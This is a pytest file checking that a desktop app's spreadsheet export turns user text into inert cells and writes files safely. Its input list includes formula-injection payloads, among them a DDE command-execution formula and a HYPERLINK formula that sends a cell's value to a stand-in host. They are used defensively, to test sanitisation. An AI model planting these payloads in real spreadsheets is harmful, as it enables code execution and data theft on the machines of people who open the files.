"""S-17: what people typed reaches a spreadsheet as text, whatever it looks like; a file is whole or not there."""

from __future__ import annotations

import csv
import io
import re
import tempfile
import zipfile
from html import unescape
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from lxml import etree

from desktop.operations.sheets import Sheet, UnknownKind, write
from desktop.store.outgoing import CannotExport
from domain.text import for_spreadsheet, nfc

BITING = [
    "=1+1", "+84 900 081 502", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\uff1d1+1", "\uff0b1", "\uff20a", "{=1+1}",
    "=cmd|'/c calc'!A1", '=HYPERLINK("http://x/?"&A1,"xem")', "=WEBSERVICE(A1)", "http://127.0.0.1/x", "mailto:a@b",
    "internal:A1", "0900081502", "<b>Bé</b>&amp;", "</t></si><si><t>", "\u202e=1+1", "_x003D_1", "1e5", "00123",
    "\ufffe\uffff",
]  # fmt: skip
texts = st.one_of(st.sampled_from(BITING), st.text(max_size=60))


def xlsx_texts(path: Path) -> list[str]:
    """Every text in the file, as a spreadsheet reads it."""
    with zipfile.ZipFile(path) as book:
        shared = book.read("xl/sharedStrings.xml").decode()
    found = re.findall(r"<si>(.*?)</si>", shared, re.DOTALL)
    texts_there = ["".join(re.findall(r"<t(?: [^>]*)?>(.*?)</t>", one, re.DOTALL)) for one in found]
    return [re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m[1], 16)), unescape(one)) for one in texts_there]


@given(st.lists(st.tuples(texts, st.integers(0, 10**6)), min_size=1, max_size=6))
@example([(one, 5) for one in BITING])
@settings(max_examples=60)
def test_an_xlsx_holds_texts_and_numbers_and_nothing_that_does_anything(
    tmp_path_factory: pytest.TempPathFactory, rows: list[tuple[str, int]]
) -> None:
    target = tmp_path_factory.mktemp("so") / "số liệu.xlsx"
    write(Sheet("Hồ sơ", ("Chữ", "Số"), tuple(rows)), target)
    with zipfile.ZipFile(target) as book:
        parts = {name: book.read(name).decode("utf-8") for name in book.namelist()}
        page = parts["xl/worksheets/sheet1.xml"]
    assert "<f>" not in page
    assert "hyperlink" not in page
    assert not [name for name in parts if "rels" in name and "External" in parts[name]]
    assert page.count('t="s"') + page.count('t="inlineStr"') == 3 + len(rows)
    for part in parts.values():
        etree.fromstring(part.encode())
    assert target.stat().st_mode & 0o777 == 0o600
    held = xlsx_texts(target)
    assert [text for text, _ in rows if re.sub("[\ufffe\uffff]", "", nfc(text)) not in held] == []


@given(st.lists(texts, min_size=1, max_size=6))
@example(BITING)
@settings(max_examples=60)
def test_a_csv_cell_that_would_be_a_formula_begins_with_an_apostrophe(
    tmp_path_factory: pytest.TempPathFactory, cells: list[str]
) -> None:
    target = tmp_path_factory.mktemp("so") / "số liệu.csv"
    write(Sheet("=Tên", ("@",), tuple((one, 7) for one in cells)), target)
    lines = list(csv.reader(io.StringIO(target.read_bytes().decode("utf-8-sig"), newline="")))
    kept = [re.sub("[\ufffe\uffff]", "", nfc(one)) for one in cells]
    assert [line[0] for line in lines[2:]] == [for_spreadsheet(one) for one in kept]
    assert not [line for line in lines if line[0][:1] in set("=+-@\t\r\uff1d\uff0b\uff0d\uff20")]
    assert {line[1] for line in lines[2:]} == {"7"}


@pytest.mark.parametrize("ending", [".xlsx", ".csv"])
def test_what_is_withheld_shows_as_such_and_no_temporary_file_holds_a_word(
    ending: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    nowhere = tmp_path / "tmp"
    nowhere.mkdir(mode=0o500)
    monkeypatch.setattr(tempfile, "tempdir", str(nowhere))
    target = tmp_path / f"a{ending}"
    write(Sheet("Hồ sơ", ("Nơi", "Số"), (("Huế", None), ("Hà Nội", 12))), target)
    assert "…" in (xlsx_texts(target) if ending == ".xlsx" else target.read_text("utf-8-sig"))
    assert list(nowhere.iterdir()) == []
    assert sorted(one.name for one in tmp_path.iterdir()) == [target.name, "tmp"]


def test_a_place_that_cannot_be_written_is_one_sentence_and_leaves_the_former_file(tmp_path: Path) -> None:
    with pytest.raises(CannotExport):
        write(Sheet("a", ("b",), ()), tmp_path / "không có" / "a.csv")
    with pytest.raises(UnknownKind):
        write(Sheet("a", ("b",), ()), tmp_path / "a.exe")
    kept = tmp_path / "a.csv"
    kept.mkdir()
    with pytest.raises(CannotExport):
        write(Sheet("a", ("b",), ()), kept)
    assert [one.name for one in tmp_path.iterdir()] == ["a.csv"]
